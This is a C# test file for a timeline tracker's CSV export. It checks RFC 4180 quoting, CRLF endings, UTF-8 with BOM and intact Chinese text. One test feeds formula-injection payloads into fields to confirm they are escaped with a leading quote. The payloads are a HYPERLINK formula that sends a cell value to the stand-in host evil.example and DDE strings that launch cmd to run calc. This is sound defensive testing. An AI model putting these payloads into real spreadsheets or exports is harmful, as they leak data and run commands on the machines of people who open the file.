using System.Net;
using System.Text;
using CsvHelper;
using MetaAiTracker.Core.Domain;
using MetaAiTracker.Core.Services;
using MetaAiTracker.Data.Dataset;
using MetaAiTracker.Tests.Shared;
using MetaAiTracker.Web.Api;
using Microsoft.Extensions.DependencyInjection;

namespace MetaAiTracker.Web.Tests.Api;

/// <summary>/api/events.csv: RFC 4180, UTF-8 with BOM, CRLF, every matching event, read back by a real CSV parser.</summary>
[Collection(ApiCollection.Name)]
public sealed class CsvTests(SharedApp app)
{
    /// <summary>Parses CSV bytes (which must start with the UTF-8 BOM) with CsvHelper, strictly, into rows keyed by header.</summary>
    public static List<Dictionary<string, string>> ReadRows(byte[] bytes)
    {
        Assert.True(bytes.AsSpan().StartsWith(Encoding.UTF8.GetPreamble()), "the CSV does not start with the UTF-8 byte order mark");
        var options = CsvReaderOptions.Default with
        {
            MalformedData = CsvMalformedDataHandling.Throw,
            FieldCountMismatch = CsvFieldCountHandling.Throw,
        };
        using var reader = CsvReader.Create(bytes[3..], options);
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            Assert.Equal(EventCsv.Columns, reader.Headers);
            rows.Add(EventCsv.Columns.ToDictionary(c => c, reader.GetString, StringComparer.Ordinal));
        }

        return rows;
    }

    private async Task<(HttpResponseMessage Response, byte[] Body)> GetAsync(string url)
    {
        using var client = app.CreateClient();
        var response = await client.GetAsync(new Uri(url, UriKind.Relative));
        return (response, await response.Content.ReadAsByteArrayAsync());
    }

    [Theory]
    [InlineData("", "")]
    [InlineData("themes=talent&sort=desc", "themes=talent&sort=desc")]
    [InlineData("q=扎克伯格", "q=扎克伯格")]
    [InlineData("pageSize=5&page=3", "")] // paging is ignored: the download is every matching event
    public async Task Csv_rows_are_the_services_events_with_chinese_intact(string query, string equivalentQuery)
    {
        var (response, body) = await GetAsync("/api/events.csv" + (query.Length > 0 ? "?" + query : string.Empty));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal(ExportEndpoints.CsvFileName, response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));

        var values = Microsoft.AspNetCore.WebUtilities.QueryHelpers.ParseQuery(equivalentQuery);
        var (filter, _) = TimelineFilterParser.Parse(n => values.TryGetValue(n, out var v) ? v.ToString() : null);
        var expected = await ExportEndpoints.AllAsync(app.Services.GetRequiredService<TimelineService>(), filter, CancellationToken.None);

        var rows = ReadRows(body);
        Assert.Equal(expected.Count, rows.Count);
        for (var i = 0; i < rows.Count; i++)
        {
            var item = expected[i];
            var row = rows[i];
            Assert.Equal(item.Slug, row["slug"]);
            Assert.Equal(item.Date.ToString(), row["date"]);
            Assert.Equal(EnumText.ToText(item.Date.Precision), row["precision"]);
            Assert.Equal(item.TitleEn, row["title_en"]);
            Assert.Equal(item.TitleZh, row["title_zh"]);
            Assert.Equal(item.SummaryEn, row["summary_en"]);
            Assert.Equal(EnumText.ToText(item.Status), row["status"]);
            Assert.Equal(item.StatusNote ?? string.Empty, row["status_note"]);
            Assert.Equal(string.Join(';', item.Themes.Select(t => t.Slug)), row["themes"]);
            Assert.Equal(string.Join(';', item.People.Select(p => p.Slug)), row["people"]);
            Assert.Equal(string.Join(';', item.Organizations.Select(o => o.Slug)), row["organizations"]);
            Assert.Equal($"http://localhost/events/{item.Slug}", row["url"]);
        }
    }

    [Fact]
    public async Task Csv_lines_end_in_crlf_and_quotes_are_doubled()
    {
        var (_, body) = await GetAsync("/api/events.csv");
        var text = Encoding.UTF8.GetString(body, 3, body.Length - 3);
        Assert.StartsWith(string.Join(',', EventCsv.Columns) + "\r\n", text, StringComparison.Ordinal);
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);

        // Outside quoted fields every line feed follows a carriage return.
        var inQuotes = false;
        for (var i = 0; i < text.Length; i++)
        {
            if (text[i] == '"')
            {
                inQuotes = !inQuotes;
            }
            else if (text[i] == '\n' && !inQuotes)
            {
                Assert.True(i > 0 && text[i - 1] == '\r', $"bare line feed at {i}");
            }
        }

        Assert.Contains("“挖角”", text, StringComparison.Ordinal); // Chinese punctuation survives as UTF-8
    }

    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("cr\rhere", "\"cr\rhere\"")]
    [InlineData("", "")]
    [InlineData("扎克伯格，“挖角”", "扎克伯格，“挖角”")]
    public void Fields_are_quoted_only_when_rfc_4180_needs_it(string field, string written) =>
        Assert.Equal(written, EventCsv.Escape(field));

    [Fact]
    public void Awkward_fields_round_trip_through_a_csv_parser()
    {
        var item = new TimelineItem("awkward", PartialDate.Parse("2025-08-29"), "Title, with \"quotes\"", "标题，“引号”",
            "Line one\r\nline two, and \"more\"", ClaimStatus.Disputed, "note\nwith break", 3,
            [new ThemeRef("talent", "Talent", "人才", "#000000"), new ThemeRef("partnerships", "Partnerships", "合作", "#111111")],
            [new PersonRef("a-b", "A B", null, null)], []);
        var rows = ReadRows(EventCsv.Write([item], slug => "https://tracker.test/events/" + slug));
        var row = Assert.Single(rows);
        Assert.Equal(item.TitleEn, row["title_en"]);
        Assert.Equal(item.TitleZh, row["title_zh"]);
        Assert.Equal(item.SummaryEn, row["summary_en"]);
        Assert.Equal(item.StatusNote, row["status_note"]);
        Assert.Equal("talent;partnerships", row["themes"]);
        Assert.Equal("", row["organizations"]);
        Assert.Equal("day", row["precision"]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"details\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"details\")")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("-12.5", "-12.5")] // a negative number stays a number
    [InlineData("-40", "-40")]
    [InlineData("a = b", "a = b")] // only the first character counts
    [InlineData("2025-08-29", "2025-08-29")]
    public void A_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(string field, string read)
    {
        var item = new TimelineItem("hostile", PartialDate.Parse("2025-08-29"), field, "标题", field, ClaimStatus.Reported, field, 3, [], [], []);

        var row = Assert.Single(ReadRows(EventCsv.Write([item], slug => "https://tracker.test/events/" + slug)));

        Assert.Equal(read, row["title_en"]);
        Assert.Equal(read, row["summary_en"]);
        Assert.Equal(read, row["status_note"]);
        Assert.Equal("hostile", row["slug"]);
    }

    /// <summary>More events than one service page holds: the export still returns them all, in order.</summary>
    [Fact]
    public async Task Every_event_is_exported_when_there_are_more_than_a_page()
    {
        using var database = new TestDatabase();
        var shipped = ShippedDataset.Read().Document!;
        var template = shipped.Events![0];
        var extra = Enumerable.Range(1, 2 * TimelineFilter.MaxPageSize + 17)
            .Select(i => template with { Slug = $"generated-{i:D4}", TitleEn = $"Generated {i}" });
        await database.LoadAsync(shipped with { Events = [.. shipped.Events, .. extra] });

        var timeline = new TimelineService(database.Factory);
        var all = await ExportEndpoints.AllAsync(timeline, new TimelineFilter { Page = 3, PageSize = 5 }, CancellationToken.None);
        var expectedTotal = shipped.Events.Count + 2 * TimelineFilter.MaxPageSize + 17;
        Assert.Equal(expectedTotal, all.Count);
        Assert.Equal(expectedTotal, all.Select(i => i.Slug).Distinct(StringComparer.Ordinal).Count());
        Assert.Equal(all.OrderBy(i => i.Date.Start).ThenBy(i => i.Date.End).Select(i => i.Date), all.Select(i => i.Date));

        var rows = ReadRows(EventCsv.Write(all, s => s));
        Assert.Equal(expectedTotal, rows.Count);
    }
}
